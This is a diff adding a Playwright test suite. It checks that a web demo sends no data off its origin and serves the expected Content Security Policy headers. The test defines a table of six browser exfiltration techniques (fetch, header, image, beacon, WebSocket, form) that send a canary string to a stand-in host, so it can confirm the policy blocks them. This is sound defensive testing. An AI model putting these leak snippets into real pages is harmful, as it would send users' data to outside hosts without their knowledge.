@@ -1,0 +1,137 @@
+import type { Page } from '@playwright/test';
+import { headerPolicy, metaPolicy } from '../scripts/headers.js';
+import { CANARY, hasCanary } from './support/canary.ts';
+import { expect, test } from './support/test.ts';
+
+const TEXT = `Anna Berg was born in Oslo. ${CANARY} works for Acme Labs.`;
+
+/** A host that exists nowhere; the proxy answers for it. */
+const ELSEWHERE = 'elsewhere.test';
+
+/** All ways that we know of by which a page could tell somebody something. */
+const LEAKS: Record<string, (page: Page, text: string) => Promise<unknown>> = {
+  fetch: (page, body) =>
+    page.evaluate(
+      ([url, text]) => fetch(url, { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0),
+      [`http://${ELSEWHERE}/fetch`, body] as const,
+    ),
+  header: (page, text) =>
+    page.evaluate(([url, value]) => fetch(url, { headers: { Accept: value } }).catch(() => 0), [
+      `http://${ELSEWHERE}/header`,
+      Buffer.from(text).toString('base64'),
+    ] as const),
+  image: (page, text) =>
+    page.evaluate(
+      ([url, query]) => {
+        new Image().src = `${url}?${encodeURIComponent(query)}`;
+      },
+      [`http://${ELSEWHERE}/image`, text] as const,
+    ),
+  beacon: (page, body) =>
+    page.evaluate(([url, text]) => navigator.sendBeacon(url, text), [
+      `http://${ELSEWHERE}/beacon`,
+      body,
+    ] as const),
+  websocket: (page, text) =>
+    page.evaluate(
+      ([url, query]) => {
+        try {
+          new WebSocket(`${url}?${encodeURIComponent(query)}`);
+        } catch {
+          // The policy may forbid it at once.
+        }
+      },
+      [`ws://${ELSEWHERE}/websocket`, text] as const,
+    ),
+  form: (page, text) =>
+    page.evaluate(
+      ([action, value]) => {
+        const form = document.createElement('form');
+        form.action = action;
+        form.method = 'post';
+        const field = document.createElement('input');
+        field.name = 'text';
+        field.value = value;
+        form.append(field);
+        document.body.append(form);
+        form.submit();
+      },
+      [`http://${ELSEWHERE}/form`, text] as const,
+    ),
+};
+
+test('no request leaves the origin, and none carries the text', async ({
+  proxied,
+  baseURL,
+  guard,
+}) => {
+  const { demo, proxy } = proxied;
+  const { page } = demo;
+  await demo.open('model=tiny:flat&device=wasm');
+  await demo.analyse(TEXT);
+  await demo.slide(demo.lambda, 0.3);
+  await demo.slide(demo.tau, 0.7);
+  expect(await demo.downloadJson()).toContain(CANARY);
+  expect(await demo.copyJson()).toContain(CANARY);
+
+  expect(proxy.ofPages.some(({ url }) => url.includes('/models/tiny/'))).toBe(true);
+  for (const { method, url } of proxy.ofPages) {
+    expect(method, url).toBe('GET');
+    expect(new URL(url).origin).toBe(new URL(baseURL ?? '').origin);
+  }
+  for (const { url, bytes } of proxy.requests) expect(hasCanary(bytes), url).toBe(false);
+  expect(guard.troubles).toEqual([]);
+
+  await test.step('where something tried, the policy would stop it', async () => {
+    guard.allow(new RegExp(`securitypolicyviolation|Content Security Policy|${ELSEWHERE}`, 'u'));
+    const before = proxy.ofPages.length;
+    for (const leak of Object.values(LEAKS)) await leak(page, CANARY);
+    // A request that is allowed comes after all that were tried before it.
+    await page.evaluate(() => fetch('favicon.svg'));
+    expect(proxy.ofPages.slice(before).map(({ url }) => new URL(url).pathname)).toEqual([
+      '/favicon.svg',
+    ]);
+    expect(guard.everything.join('\n')).toContain('securitypolicyviolation');
+  });
+});
+
+test('the test would see a page that leaks', async ({ proxied, guard }) => {
+  guard.allow(new RegExp(ELSEWHERE, 'u'));
+  const { demo, proxy } = proxied;
+  for (const [name, leak] of Object.entries(LEAKS)) {
+    await demo.page.goto(`http://${ELSEWHERE}/empty`);
+    await leak(demo.page, CANARY);
+    const seen = () =>
+      proxy.ofPages.some(({ bytes }) => bytes.includes(`/${name}`) && hasCanary(bytes));
+    await expect.poll(seen, { message: name }).toBe(true);
+  }
+  expect(guard.everything.filter((trouble) => trouble.startsWith('left:')).length).toBeGreaterThan(
+    Object.keys(LEAKS).length,
+  );
+});
+
+test('page and worker carry the policy', async ({ page, request, demo }) => {
+  const opening = page.waitForResponse(
+    (response) => response.request().resourceType() === 'document',
+  );
+  await demo.open('model=tiny&device=wasm');
+  const opened = (await opening).headers();
+  expect(opened['content-security-policy']).toBe(headerPolicy({ document: true }));
+  expect(opened['cross-origin-opener-policy']).toBe('same-origin');
+  expect(opened['cross-origin-embedder-policy']).toBe('require-corp');
+  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
+  await expect(meta).toHaveAttribute('content', metaPolicy());
+
+  const working = page.waitForEvent('worker');
+  await demo.start('Oslo');
+  const script = (await working).url();
+  const headers = (await request.get(script)).headers();
+  expect(headers['content-security-policy']).toBe(headerPolicy({ document: false }));
+  expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
+  // Design section 7, word for word.
+  expect(headerPolicy({ document: false })).toBe(
+    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; " +
+      "connect-src 'self'; style-src 'self'; img-src 'self' blob: data:; font-src 'self'; " +
+      "manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
+  );
+});
